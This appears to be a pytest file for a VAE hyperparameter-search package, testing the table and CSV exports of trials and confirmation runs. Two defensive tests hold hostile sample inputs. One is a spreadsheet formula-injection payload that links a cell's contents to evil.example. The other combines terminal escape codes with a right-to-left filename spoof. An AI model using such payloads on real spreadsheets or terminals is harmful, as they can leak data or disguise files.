"""The frames and files of trials and confirmation runs."""

import io
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from klsearch.reports.tables import (
    TEXT_COLUMNS,
    as_csv,
    confirmation_frame,
    curves_frame,
    trials_frame,
    write_trials_csv,
)
from klsearch.studies.record import StudyRecord
from klsearch.studies.verdict.candidates import runs_of
from klsearch.vae.diagnostics.gates import GATE_NAMES
from klsearch.vae.hyperparameters import NAMES

Make = Callable[..., StudyRecord]

COLUMNS = [
    *("number", "state", "origin", "score", "kl", "kl_sum", "kl_slope", "reconstruction", "unexplained", "elbo"),
    *("active_units", "clip_share", *NAMES, *(f"gate_{name}" for name in GATE_NAMES)),
    *("feasible", "seconds", "epochs", "seed", "error"),
]


def read_csv(text: str) -> pd.DataFrame:
    """A CSV whose texts are not taken for missing values."""
    return pd.read_csv(io.StringIO(text), dtype=dict.fromkeys(TEXT_COLUMNS, str), keep_default_na=False)


def test_there_is_one_row_per_trial_and_the_columns_keep_their_order(study: StudyRecord) -> None:
    frame = trials_frame(study)
    assert list(frame.columns) == COLUMNS
    assert frame["number"].tolist() == [trial.number for trial in study.trials]


def test_a_study_without_trials_has_an_empty_frame_with_every_column(make: Make) -> None:
    assert list(trials_frame(make(0)).columns) == COLUMNS
    assert len(confirmation_frame(make(0))) == 0


def test_values_are_those_of_the_records_at_full_precision(study: StudyRecord) -> None:
    frame = trials_frame(study)
    for row, trial in zip(frame.itertuples(), study.trials, strict=True):
        assert row.score == trial.score
        assert row.kl_weight == trial.hyperparameters.kl_weight
        assert [getattr(row, f"gate_{gate.name}") for gate in trial.gates] == [gate.passed for gate in trial.gates]


def test_a_diverged_trial_and_an_absent_bound_leave_their_fields_missing(study: StudyRecord) -> None:
    frame = trials_frame(study)
    diverged = frame[frame["gate_finite"] == False]  # noqa: E712  an element-wise comparison
    assert len(diverged) > 0
    assert diverged[["kl", "kl_sum", "unexplained", "elbo"]].isna().all().all()
    assert frame["clipnorm"].isna().all()


def test_kl_sum_is_the_mean_times_the_number_of_latents(study: StudyRecord) -> None:
    frame = trials_frame(study).dropna(subset=["kl"])
    latents = study.definition.model.latent_dim
    np.testing.assert_allclose(frame["kl_sum"], frame["kl"] * latents, rtol=1e-15)


def test_the_csv_reads_back_to_the_same_numbers(study: StudyRecord, tmp_path: Path) -> None:
    path = tmp_path / "new folder" / "trials.csv"
    write_trials_csv(study, path)
    back = pd.read_csv(path)
    frame = trials_frame(study)
    for name in ("score", "kl", "kl_weight", "elbo", "seconds", "seed"):
        np.testing.assert_array_equal(back[name].to_numpy(float), frame[name].to_numpy(float, na_value=np.nan))


def with_error(make: Make, error: str) -> StudyRecord:
    one = make(1)
    return replace(one, trials=(replace(one.trials[0], error=error),))


@pytest.mark.parametrize("error", ['a, "quoted" field', "two\nlines", "NA", "1e5", "é 漢字"])
def test_errors_stay_text_whatever_they_look_like(make: Make, error: str) -> None:
    assert read_csv(as_csv(trials_frame(with_error(make, error))))["error"].tolist() == [error]


def test_what_would_act_on_a_terminal_or_was_never_utf_8_is_written_out(make: Make) -> None:
    text = as_csv(trials_frame(with_error(make, "\x1b]0;title\x07 \u202egpj.exe \udcff")))
    assert read_csv(text)["error"].tolist() == [r"\u001b]0;title\u0007 \u202egpj.exe \udcff"]


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/"&A1)', "+1", "-1", "@SUM(A1)"])
def test_no_text_of_a_download_is_a_formula(name: str, study: StudyRecord, make: Make) -> None:
    one = make(1)
    tried = replace(one, trials=(replace(one.trials[0], origin=name),))
    assert read_csv(as_csv(trials_frame(tried)))["origin"].tolist() == [f"'{name}"]
    confirmed = replace(study, confirmation=(replace(study.confirmation[0], candidate=name, trial=None),))
    assert read_csv(as_csv(confirmation_frame(confirmed)))["name"].tolist() == [f"'{name}"]


def test_the_confirmation_frame_names_the_winner_and_holds_its_test_measures(first_release: StudyRecord) -> None:
    study = first_release
    frame = confirmation_frame(study)
    winner = frame[frame["name"] == "winner"]
    assert winner["trial"].unique().tolist() == [study.winner]
    assert winner["test_unexplained"].tolist() == [
        run.test.unexplained for run in runs_of(study, "winner") if run.test is not None
    ]
    others = frame[frame["name"].str.startswith("trial ")]
    assert len(others) == 2 * 3, "only the first release proved leading trials that did not win"
    assert others["test_kl"].isna().all()


def test_the_curves_of_every_training_are_told_part_by_part(study: StudyRecord) -> None:
    closing = replace(study.confirmation[0], candidate="ladder", trial=None)
    frame = curves_frame(replace(study, trials=study.trials[:2], closing=(closing,)))
    parts = {"search": study.trials[:2], "race": study.race, "proof": study.confirmation, "closing": (closing,)}
    rows = frame.groupby("part", sort=False).size().to_dict()
    assert rows == {part: sum(run.epochs for run in runs) for part, runs in parts.items()}
    last = frame.iloc[-1]
    assert closing.curves is not None
    assert (last["name"], last["seed"], last["kl"]) == ("ladder", closing.seed, float(closing.curves.kl[-1]))


def test_a_choice_has_a_column_where_trials_have_one_of_their_own(study: StudyRecord, make: Make) -> None:
    space = {
        "kl_weight": {"low": 1e-3, "high": 1.0, "log": True},
        "annealing_epochs": 10,
        "kl_schedule": ["linear", "cosine"],
    }
    chosen = make(6, seeds=0, space=space)
    written = trials_frame(chosen)["kl_schedule"].tolist()
    assert written == [trial.hyperparameters.kl_schedule for trial in chosen.trials]
    assert "kl_schedule" not in trials_frame(study)
